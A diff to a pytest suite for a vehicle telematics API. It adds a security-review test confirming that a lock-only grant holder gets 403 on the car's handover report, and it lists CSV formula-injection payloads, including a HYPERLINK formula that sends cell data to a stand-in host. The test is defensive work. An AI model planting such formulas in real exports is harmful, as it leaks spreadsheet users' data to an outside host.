@@ -527,6 +527,45 @@ def test_a_handover_reports_the_telemetry_at_check_out_and_check_in(api: Api) ->
     assert t0
 
 
+def test_a_grant_without_read_gives_no_handover_of_the_car(api: Api) -> None:
+    """Security review 5: a grant that lists remote services only (``lock``: "send those
+    commands and follow the ones they sent, nothing more", README) still gave its holder
+    the handover report of the grant, whose check-in is *now* while the grant runs: the
+    car's live position, odometer, charge, fuel and fault codes, as often as they asked,
+    while every data route answered them 403. The grant's holder now gets the report only
+    if the grant lets them read the car (its services list ``read``), also once it ended."""
+    _, owner = api.owner("lend-owner@example.com")
+    assert api.as_(owner, "POST", "/v1/vehicles", json={"vin": VIN}).status_code == 201
+    body = {"email": "locker@example.com", "name": "L", "role": "driver", "password": PASSWORD}
+    locker_id = api.as_(owner, "POST", "/v1/users", json=body).json()["id"]
+    grant = api.as_(owner, "POST", f"/v1/vehicles/{VIN}/grants",
+                    json={"user_id": locker_id, "services": ["lock"]})  # fmt: skip
+    assert grant.status_code == 201, grant.text
+    api.clock.now += 60
+    api.report(1, **{ODO: 1_000_000, LAT: 48.1, LON: 11.5, DTC: ["P0300"]})
+    locker = api.login("locker@example.com")
+    url = f"/v1/vehicles/{VIN}/grants/{grant.json()['id']}/handover"
+    # the data routes: 403, the grant is for remote services only
+    error(api.as_(locker, "GET", f"/v1/vehicles/{VIN}"), 403, "forbidden")
+    for format in ("json", "csv", "html"):
+        r = api.as_(locker, "GET", url, params={"format": format})
+        assert "48.1" not in r.text, r.text
+        error(r, 403, "forbidden")
+    # ended: the report at the return is not theirs to read either
+    assert (
+        api.as_(owner, "DELETE", f"/v1/vehicles/{VIN}/grants/{grant.json()['id']}").status_code
+        == 200
+    )
+    error(api.as_(locker, "GET", url), 403, "forbidden")
+    # the owner reads it, and so does the holder of a grant with read (the rental case)
+    assert api.as_(owner, "GET", url).json()["check_in"]["latitude"] == 48.1
+    reader = api.as_(owner, "POST", f"/v1/vehicles/{VIN}/grants",
+                     json={"user_id": locker_id, "services": ["read", "lock"]})  # fmt: skip
+    assert reader.status_code == 201, reader.text
+    url = f"/v1/vehicles/{VIN}/grants/{reader.json()['id']}/handover"
+    assert api.as_(locker, "GET", url).json()["check_in"]["latitude"] == 48.1
+
+
 @pytest.mark.parametrize(
     "formula", ['=HYPERLINK("http://evil.example/?"&A1,"P0301")', "+1+1", "-2+3", "@SUM(1)", "\tP0"]
 )
